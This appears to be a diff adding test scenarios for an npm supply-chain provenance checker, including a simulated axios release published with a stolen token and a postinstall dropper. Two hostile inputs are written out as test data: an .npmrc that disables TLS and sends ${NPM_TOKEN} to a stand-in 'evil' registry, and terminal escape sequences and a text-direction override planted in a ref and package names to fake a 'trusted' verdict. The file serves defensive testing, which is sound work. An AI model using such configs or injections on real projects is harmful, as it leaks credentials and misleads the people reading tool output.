@@ -1,0 +1,160 @@
+// SPDX-License-Identifier: Apache-2.0
+// Releases, honest and not, and what a project makes of them.
+import { deepStrictEqual } from 'node:assert/strict'
+import { builtBy } from '../support/world.ts'
+import type { World } from '../support/world.ts'
+import { NOTHING } from './set-up.ts'
+import type { SetUp } from './set-up.ts'
+
+const AXIOS = {
+  repository: 'axios/axios',
+  repositoryId: '23088740',
+  ownerId: '32372333',
+  workflow: '.github/workflows/publish.yml',
+} as const
+
+/** Sets up a project that depends on one honest release. */
+async function honest(world: World): Promise<void> {
+  await world.lock([await world.release('paint', '2.0.0')])
+}
+
+/** Another release of `paint`, built by somebody else's job. */
+function rebuilt(change: Readonly<Record<string, string>>): SetUp {
+  return async (world) => {
+    const job = { ...builtBy('paint/paint'), repositoryId: '111', ownerId: '222' }
+    await world.lock([await world.release('paint', '2.0.0', { provenance: job })])
+    return {
+      'paint 2.0.1 is published from there': async () => {
+        await world.lock([await world.release('paint', '2.0.1', { provenance: { ...job, ...change } })])
+      },
+    }
+  }
+}
+
+export const STORIES: Readonly<Record<string, SetUp>> = {
+  async axios(world) {
+    await world.lock([await world.release('axios', '1.14.0', { provenance: AXIOS })])
+    return {
+      'axios 1.14.1 is published with a stolen token, and an update locks it': async () => {
+        const dropper = await world.release('plain-crypto-js', '4.2.1', {
+          provenance: null,
+          manifest: { scripts: { postinstall: 'node setup.js' } },
+        })
+        const stolen = await world.release('axios', '1.14.1', {
+          provenance: null,
+          manifest: { dependencies: { 'plain-crypto-js': '^4.2.1' } },
+        })
+        await world.lock([stolen, dropper])
+      },
+    }
+  },
+
+  async honest(world) {
+    await world.lock([await world.release('paint', '2.0.0'), await world.release('@colors/blue', '1.0.0')])
+    return NOTHING
+  },
+
+  async init(world) {
+    await world.lock([
+      await world.release('paint', '2.0.0'),
+      await world.release('left-alone', '1.0.0', { provenance: null }),
+    ])
+    let before: readonly string[] = []
+    return {
+      'somebody looks at the files': async () => void (before = await world.snapshot()),
+      'the files are the same, byte for byte': async () => deepStrictEqual(await world.snapshot(), before),
+    }
+  },
+
+  // The registry's word about earlier versions is enough to refuse, and never enough to pin.
+  async 'init-regression'(world) {
+    await world.release('paint', '2.0.0')
+    await world.lock([await world.release('paint', '2.0.1', { provenance: null })])
+    return NOTHING
+  },
+
+  'identity-repository': rebuilt({ repository: 'palnt/paint', repositoryId: '999', ownerId: '888' }),
+  'identity-workflow': rebuilt({ workflow: '.github/workflows/ci.yml' }),
+  'identity-renamed': rebuilt({ repository: 'painters/paint' }),
+  'identity-namesake': rebuilt({ repositoryId: '999', ownerId: '888' }),
+
+  async explain(world) {
+    await honest(world)
+    await world.release('paint', '2.1.0', { provenance: null })
+    const { integrity } = await world.release('paint', '2.2.0')
+    world.sandbox.unpublish('paint', '2.2.0')
+    return {
+      'a pull request swaps the integrity of paint 2.0.0': async () =>
+        world.editLock((text) => text.replace(/sha512-[^"]+/u, integrity)),
+    }
+  },
+
+  async now(world) {
+    await honest(world)
+    return NOTHING
+  },
+
+  async outside(world) {
+    await world.lock([await world.release('paint', '2.0.0'), await world.release('@acme/secret', '1.0.0')])
+    await world.write('bonafide.json', '{ "version": 1, "outside": ["@acme/*"] }\n')
+    return {
+      'nobody was asked about @acme/secret': async () => {
+        const asked = world.sandbox.requests.filter(({ path }) => path.includes('acme'))
+        deepStrictEqual(asked, [])
+        // The others were, so the list of requests is not simply empty.
+        deepStrictEqual(world.sandbox.requests.length > 0, true)
+      },
+    }
+  },
+
+  async 'rule-lowered'(world) {
+    const job = { ...builtBy('paint/paint'), repositoryId: '111', ownerId: '222' }
+    await world.lock([
+      await world.release('paint', '2.0.0', { provenance: job }),
+      await world.release('left-alone', '1.0.0', { provenance: null }),
+    ])
+    const lower = (level: string) => (): Promise<void> =>
+      world.write(
+        'bonafide.json',
+        `{ "version": 1, "rules": { "provenance-required": "${level}", "identity-changed": "${level}" } }\n`,
+      )
+    return {
+      'paint moves to another owner': async () => {
+        const moved = { ...job, repository: 'painters/paint', ownerId: '333' }
+        const fields = await world.release('paint', '2.0.1', { provenance: moved })
+        await world.lock([fields, await world.release('left-alone', '1.0.1', { provenance: null })])
+      },
+      'the policy lowers two rules to warnings': lower('warn'),
+      'the policy switches them off': lower('off'),
+    }
+  },
+
+  async grouped(world) {
+    const names = ['anise', 'basil', 'caraway', 'dill', 'elder']
+    await world.lock(
+      await Promise.all(names.map((name) => world.release(name, '1.0.0', { provenance: null }))),
+    )
+    return NOTHING
+  },
+
+  // A ref and a file's name that repaint the verdict, and a direction of writing that hides it.
+  async escapes(world) {
+    const ref = 'refs/tags/v2.0.0\u001b[2K\u001b[1A\u001b[32mtrusted\u001b[0m\u202e'
+    const fine = await world.release('paint', '2.0.0', { provenance: { ...builtBy('paint/paint'), ref } })
+    await world.lock([fine], {
+      packages: { 'node_modules/\u001b[2Jpaint': { version: '1.0.0\n\nsatisfied', resolved: 'git+ssh://\u0007' } },
+    })
+    return NOTHING
+  },
+
+  // The project's own .npmrc comes with every pull request.
+  async npmrc(world) {
+    await honest(world)
+    await world.write(
+      '.npmrc',
+      // oxlint-disable-next-line no-template-curly-in-string -- npm's way of writing variables
+      ['strict-ssl=false', 'proxy=http://127.0.0.1:9/', '//registry.evil.test/:_authToken=${NPM_TOKEN}', ''].join('\n'),
+    )
+    return NOTHING
+  },
+}
